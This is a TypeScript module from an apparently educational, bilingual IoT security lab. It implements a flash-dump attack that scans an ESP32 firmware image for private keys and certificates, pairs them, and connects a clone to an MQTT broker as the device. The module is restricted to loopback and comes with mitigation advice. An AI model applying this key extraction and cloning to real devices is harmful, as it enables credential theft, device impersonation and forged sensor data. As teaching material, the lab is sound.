/**
 * The seed's Step 2 attack: a 5 € USB-UART adapter and `esptool.py read_flash 0 0x400000`
 * give the attacker the M5Go's whole flash (no flash encryption on the lab's ESP32). A search
 * of the dump for private keys and certificates, a key ↔ certificate pairing by public key,
 * and a clone that connects to the broker with what was found.
 */
import type { Evidence, Finding, Text } from '../core/findings.js';
import { readFirmwareFlash } from '../device/index.js';
import { cloneConnect } from './clone.js';
import { keyEvidence, makeFinding, notApplicable } from './hardware-kit.js';
import { type KeySearch, searchKeys } from './key-search.js';
import { assertLoopback } from './loopback.js';
import type { Attack, AttackTarget } from './target.js';

const ATTACK = 'flash-dump';

export const flashDump: Attack = {
  name: ATTACK,
  async run(target: AttackTarget): Promise<Finding[]> {
    assertLoopback(target.broker.host);
    const flash = target.publisher.board.flash;
    const search = searchKeys(flash);
    const base = {
      attack: ATTACK,
      kase: 'key',
      step: target.step,
      stride: ['I', 'S'] as const,
      title: { en: 'Flash dump yields the device key', fr: 'Le dump de la flash livre la clé du device' },
      attempted: {
        en: `Dumped the publisher's ${flash.length / 1048576} MiB flash (esptool read_flash) and searched it for private keys (PEM blocks, DER PKCS#8/SEC1/PKCS#1 structures, random-looking 32-byte windows tested as P-256 scalars against the certificates found) and certificates; paired keys with certificates by public key and, with a pair, connected to the broker as the device.`,
        fr: `Dump des ${flash.length / 1048576} Mio de flash du publieur (esptool read_flash) et recherche de clés privées (blocs PEM, structures DER PKCS#8/SEC1/PKCS#1, fenêtres de 32 octets d’allure aléatoire testées comme scalaires P-256 contre les certificats trouvés) et de certificats ; appariement clé ↔ certificat par clé publique et, avec une paire, connexion au broker en se faisant passer pour le device.`,
      },
    };
    const found = searchEvidence(flash.length, search);
    if (target.step === 1) {
      const s = readFirmwareFlash(flash);
      return [
        notApplicable(
          { ...base, evidence: [found, { kind: 'flash', label: CONSTANTS, data: constantsLine(s) }] },
          {
            en: `Step 1 has no key to steal: the flash only holds the broker's host and port (${s.mqttHost}:${s.mqttPort}) and the topic ${s.topic}. The search found ${search.keys.length} key(s) and ${search.certificates.length} certificate(s).`,
            fr: `L’étape 1 n’a aucune clé à voler : la flash ne contient que l’hôte et le port du broker (${s.mqttHost}:${s.mqttPort}) et le topic ${s.topic}. La recherche a trouvé ${search.keys.length} clé(s) et ${search.certificates.length} certificat(s).`,
          },
        ),
      ];
    }
    const pair = search.pairs.find((p) => p.key.key !== undefined && !p.certificate.isCa);
    if (pair === undefined) {
      const device = search.certificates.find((c) => !c.isCa);
      return [
        makeFinding({
          ...base,
          outcome: 'blocked',
          evidence: [found],
          result: {
            en: `The dump holds ${search.certificates.length} certificate(s)${device ? ` (the device's: ${device.subject}, at 0x${device.offset.toString(16)})` : ''} but no private key: ${search.keys.length} key(s) in PEM or DER, ${search.entropy.windows} random-looking windows (${search.entropy.regions} regions), none of the ${search.entropy.tested} scalars tested matches a certificate. The certificate alone does not authenticate.`,
            fr: `Le dump contient ${search.certificates.length} certificat(s)${device ? ` (celui du device : ${device.subject}, en 0x${device.offset.toString(16)})` : ''} mais aucune clé privée : ${search.keys.length} clé(s) en PEM ou DER, ${search.entropy.windows} fenêtres d’allure aléatoire (${search.entropy.regions} zones), aucun des ${search.entropy.tested} scalaires testés ne correspond à un certificat. Le certificat seul n’authentifie pas.`,
          },
        }),
      ];
    }
    const keyPem = pair.key.key!.export({ type: 'pkcs8', format: 'pem' }) as string;
    const clone = await cloneConnect(target, {
      keyPem,
      certPem: pair.certificate.pem,
      source: { en: 'the flash dump', fr: 'dump de la flash' },
    });
    const where = `0x${pair.key.offset.toString(16)} (${pair.key.encoding.toUpperCase()} ${pair.key.format}, ${pair.key.length} bytes)`;
    const evidence: Evidence[] = [
      found,
      keyEvidence(
        { en: 'Key recovered from the dump', fr: 'Clé retrouvée dans le dump' },
        pair.key.spkiSha256!,
        [
          `flash offset ${where}`,
          `${pair.key.algorithm}, matches certificate ${pair.certificate.subject} at 0x${pair.certificate.offset.toString(16)}`,
        ],
      ),
      ...clone.evidence,
    ];
    const connected: Text = {
      en: `The PEM key sits in flash at ${where}; with the certificate beside it the clone got CONNACK 0 from the broker as ${pair.certificate.subject}${clone.displayed ? ', and the M5Stack displayed its forged reading' : ''}.`,
      fr: `La clé PEM est en flash à ${where} ; avec le certificat voisin, le clone a obtenu CONNACK 0 du broker en tant que ${pair.certificate.subject}${clone.displayed ? ', et le M5Stack a affiché sa mesure falsifiée' : ''}.`,
    };
    const refused: Text = {
      en: `The key was found at ${where}, but the broker refused the clone: ${clone.failure ?? `CONNACK ${clone.connackCode}`}.`,
      fr: `La clé a été trouvée à ${where}, mais le broker a refusé le clone : ${clone.failure ?? `CONNACK ${clone.connackCode}`}.`,
    };
    return [
      makeFinding({
        ...base,
        outcome: clone.connected ? 'succeeded' : 'blocked',
        evidence,
        result: clone.connected ? connected : refused,
        ...(clone.connected ? { mitigation: MITIGATION } : {}),
      }),
    ];
  },
};

const CONSTANTS: Text = { en: 'Firmware constants in the dump', fr: 'Constantes du firmware dans le dump' };

const MITIGATION: Text = {
  en: 'Never compile a private key into the firmware: keep it in a secure element slot that cannot be read (ATECC608B slot 0, Step 4); enable ESP32 flash encryption and secure boot so a dump is ciphertext; revoke the exposed certificate.',
  fr: 'Ne jamais compiler une clé privée dans le firmware : la garder dans un slot d’élément sécurisé illisible (slot 0 de l’ATECC608B, étape 4) ; activer le chiffrement de flash et le secure boot de l’ESP32 pour qu’un dump soit chiffré ; révoquer le certificat exposé.',
};

function constantsLine(s: ReturnType<typeof readFirmwareFlash>): string {
  return `mqtt_host = ${s.mqttHost}\nmqtt_port = ${s.mqttPort}\nclient_id = ${s.clientId}\nmqtt_topic = ${s.topic}\nkey_source = ${s.keySource}`;
}

/** Everything the search saw, with offsets: what a student can check with `xxd -s`. */
function searchEvidence(size: number, s: KeySearch): Evidence {
  const hexOff = (n: number): string => `0x${n.toString(16).padStart(6, '0')}`;
  const lines = [
    `image: ${size} bytes`,
    `private keys: ${s.keys.length}`,
    ...s.keys.map(
      (k) =>
        `  ${hexOff(k.offset)} ${k.encoding.toUpperCase()} ${k.format}${k.encrypted ? ' (encrypted: needs the passphrase)' : ''} ${k.length} bytes${k.spkiSha256 ? ` SPKI SHA-256 ${k.spkiSha256}` : ''}`,
    ),
    `certificates: ${s.certificates.length}`,
    ...s.certificates.map(
      (c) =>
        `  ${hexOff(c.offset)} PEM ${c.isCa ? 'CA' : 'end-entity'} subject ${c.subject} SPKI SHA-256 ${c.spkiSha256}`,
    ),
    `random-looking 32-byte windows: ${s.entropy.windows}${s.entropy.truncated ? ' (capped)' : ''} in ${s.entropy.regions} region(s); ${s.entropy.tested} valid P-256 scalars tested against the certificates' public keys`,
    `key ↔ certificate pairs: ${s.pairs.length}`,
  ];
  return {
    kind: 'flash',
    label: { en: 'Search of the flash dump', fr: 'Recherche dans le dump de la flash' },
    data: lines.join('\n'),
  };
}
